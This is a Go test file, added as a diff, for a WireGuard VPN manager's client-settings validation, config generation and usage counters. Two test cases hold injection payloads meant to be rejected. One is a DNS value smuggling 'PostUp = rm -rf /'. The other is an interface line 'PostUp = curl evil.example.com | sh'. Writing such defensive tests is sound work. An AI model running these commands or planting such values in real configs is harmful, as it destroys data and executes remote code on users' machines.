@@ -0,0 +1,174 @@
+package wgmanager
+
+import (
+	"strings"
+	"testing"
+
+	"wgeasygo/internal/config"
+	"wgeasygo/internal/models"
+)
+
+func TestValidateClientSettings(t *testing.T) {
+	keepalive := func(seconds int) *int { return &seconds }
+	tests := []struct {
+		name     string
+		settings models.ClientSettings
+		want     models.ClientSettings // Normalized settings, if valid
+		wantErr  bool
+	}{
+		{name: "empty inherits everything", settings: models.ClientSettings{}},
+		{
+			name:     "lists are normalized",
+			settings: models.ClientSettings{DNS: "10.8.0.1,corp.example.com. , fd00::1", AllowedIPs: " 10.0.0.0/8,fd00::/64"},
+			want:     models.ClientSettings{DNS: "10.8.0.1, corp.example.com., fd00::1", AllowedIPs: "10.0.0.0/8, fd00::/64"},
+		},
+		{
+			name:     "MTU and keepalive off",
+			settings: models.ClientSettings{MTU: 1280, PersistentKeepalive: keepalive(0)},
+			want:     models.ClientSettings{MTU: 1280, PersistentKeepalive: keepalive(0)},
+		},
+		{name: "DNS with a line break", settings: models.ClientSettings{DNS: "1.1.1.1\nPostUp = rm -rf /"}, wantErr: true},
+		{name: "DNS with a zone", settings: models.ClientSettings{DNS: "fe80::1%eth0"}, wantErr: true},
+		{name: "empty DNS entry", settings: models.ClientSettings{DNS: "1.1.1.1,,8.8.8.8"}, wantErr: true},
+		{name: "address instead of prefix", settings: models.ClientSettings{AllowedIPs: "10.0.0.1"}, wantErr: true},
+		{name: "MTU too small", settings: models.ClientSettings{MTU: 576}, wantErr: true},
+		{name: "negative keepalive", settings: models.ClientSettings{PersistentKeepalive: keepalive(-1)}, wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			settings := tt.settings
+			err := ValidateClientSettings(&settings)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ValidateClientSettings(%+v) error = %v, wantErr %v", tt.settings, err, tt.wantErr)
+			}
+			if err == nil && (settings.DNS != tt.want.DNS || settings.AllowedIPs != tt.want.AllowedIPs || settings.MTU != tt.want.MTU) {
+				t.Errorf("normalized to %+v, want %+v", settings, tt.want)
+			}
+		})
+	}
+}
+
+func TestGenerateClientConfigWithGroup(t *testing.T) {
+	wg := New(&config.WireGuardConfig{
+		ServerPublicKey: "server-key",
+		ServerEndpoint:  "vpn.example.com:51820",
+		DNS:             "1.1.1.1",
+		AllowedIPs:      "0.0.0.0/0",
+	})
+	peer := &models.Peer{PrivateKey: "client-key", HasPrivateKey: true, AssignedIP: "10.8.0.2"}
+
+	conf, err := wg.GenerateClientConfig(peer, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range []string{"DNS = 1.1.1.1", "AllowedIPs = 0.0.0.0/0", "PersistentKeepalive = 25"} {
+		if !strings.Contains(conf, line+"\n") {
+			t.Errorf("config without a group lacks %q:\n%s", line, conf)
+		}
+	}
+	if strings.Contains(conf, "MTU") {
+		t.Errorf("config without a group sets an MTU:\n%s", conf)
+	}
+
+	off := 0
+	group := &models.PeerGroup{ClientSettings: models.ClientSettings{AllowedIPs: "10.0.0.0/8", MTU: 1380, PersistentKeepalive: &off}}
+	conf, err = wg.GenerateClientConfig(peer, group)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range []string{"DNS = 1.1.1.1", "AllowedIPs = 10.0.0.0/8", "MTU = 1380"} {
+		if !strings.Contains(conf, line+"\n") {
+			t.Errorf("config with a group lacks %q:\n%s", line, conf)
+		}
+	}
+	if strings.Contains(conf, "PersistentKeepalive") {
+		t.Errorf("keepalive turned off by the group is still set:\n%s", conf)
+	}
+}
+
+func TestValidateClientOverrides(t *testing.T) {
+	overrides := models.ClientOverrides{
+		EndpointHost:   " vpn2.example.com ",
+		EndpointPort:   443,
+		InterfaceLines: []string{"listenport=51821", "  Table = off "},
+	}
+	if err := ValidateClientOverrides(&overrides); err != nil {
+		t.Fatal(err)
+	}
+	if overrides.EndpointHost != "vpn2.example.com" || strings.Join(overrides.InterfaceLines, "|") != "ListenPort = 51821|Table = off" {
+		t.Errorf("normalized to %+v", overrides)
+	}
+
+	for _, invalid := range []models.ClientOverrides{
+		{ClientSettings: models.ClientSettings{MTU: 100}},
+		{EndpointHost: "vpn.example.com:443"},
+		{EndpointPort: 70000},
+		{InterfaceLines: []string{"PostUp = curl evil.example.com | sh"}},
+		{InterfaceLines: []string{"PrivateKey = abc"}},
+		{InterfaceLines: []string{"Table"}},
+		{InterfaceLines: []string{"Table = off\n[Peer]"}},
+	} {
+		if err := ValidateClientOverrides(&invalid); err == nil {
+			t.Errorf("ValidateClientOverrides(%+v) accepted invalid overrides", invalid)
+		}
+	}
+}
+
+func TestGenerateClientConfigWithOverrides(t *testing.T) {
+	wg := New(&config.WireGuardConfig{
+		ServerPublicKey: "server-key",
+		ServerEndpoint:  "vpn.example.com:51820",
+		DNS:             "1.1.1.1",
+		AllowedIPs:      "0.0.0.0/0",
+	})
+	keepalive := 60
+	group := &models.PeerGroup{ClientSettings: models.ClientSettings{DNS: "10.0.0.53", AllowedIPs: "10.0.0.0/8", MTU: 1380}}
+	peer := &models.Peer{PrivateKey: "client-key", HasPrivateKey: true, AssignedIP: "10.8.0.2", Overrides: models.ClientOverrides{
+		ClientSettings: models.ClientSettings{AllowedIPs: "10.1.0.0/16", PersistentKeepalive: &keepalive},
+		EndpointPort:   443,
+		InterfaceLines: []string{"Table = off"},
+	}}
+
+	conf, err := wg.GenerateClientConfig(peer, group)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The peer's values win over the group's, the group's over the server's
+	for _, line := range []string{"DNS = 10.0.0.53", "MTU = 1380", "Table = off", "AllowedIPs = 10.1.0.0/16", "PersistentKeepalive = 60", "Endpoint = vpn.example.com:443"} {
+		if !strings.Contains(conf, line+"\n") {
+			t.Errorf("config lacks %q:\n%s", line, conf)
+		}
+	}
+	if strings.Index(conf, "Table = off") > strings.Index(conf, "[Peer]") {
+		t.Errorf("interface line is not in [Interface]:\n%s", conf)
+	}
+
+	peer.Overrides = models.ClientOverrides{EndpointHost: "fd00::1"}
+	if endpoint := wg.ResolveEndpoint(peer); endpoint != "[fd00::1]:51820" {
+		t.Errorf("ResolveEndpoint with a host override = %q, want [fd00::1]:51820", endpoint)
+	}
+}
+
+func TestUsageSince(t *testing.T) {
+	peer := &models.Peer{CounterRx: 1000, CounterTx: 500, CounterKey: "key-1"}
+	tests := []struct {
+		name        string
+		stats       PeerStats
+		wantRx      int64
+		wantTx      int64
+		wantChanged bool
+	}{
+		{name: "unchanged", stats: PeerStats{PublicKey: "key-1", TransferRx: 1000, TransferTx: 500}},
+		{name: "traffic since the counters", stats: PeerStats{PublicKey: "key-1", TransferRx: 1500, TransferTx: 600}, wantRx: 500, wantTx: 100, wantChanged: true},
+		{name: "rx counter reset", stats: PeerStats{PublicKey: "key-1", TransferRx: 300, TransferTx: 700}, wantRx: 300, wantTx: 200, wantChanged: true},
+		{name: "rotated key", stats: PeerStats{PublicKey: "key-2", TransferRx: 1000, TransferTx: 500}, wantRx: 1000, wantTx: 500, wantChanged: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rx, tx, changed := UsageSince(peer, &tt.stats)
+			if rx != tt.wantRx || tx != tt.wantTx || changed != tt.wantChanged {
+				t.Errorf("UsageSince = %d, %d, %v, want %d, %d, %v", rx, tx, changed, tt.wantRx, tt.wantTx, tt.wantChanged)
+			}
+		})
+	}
+}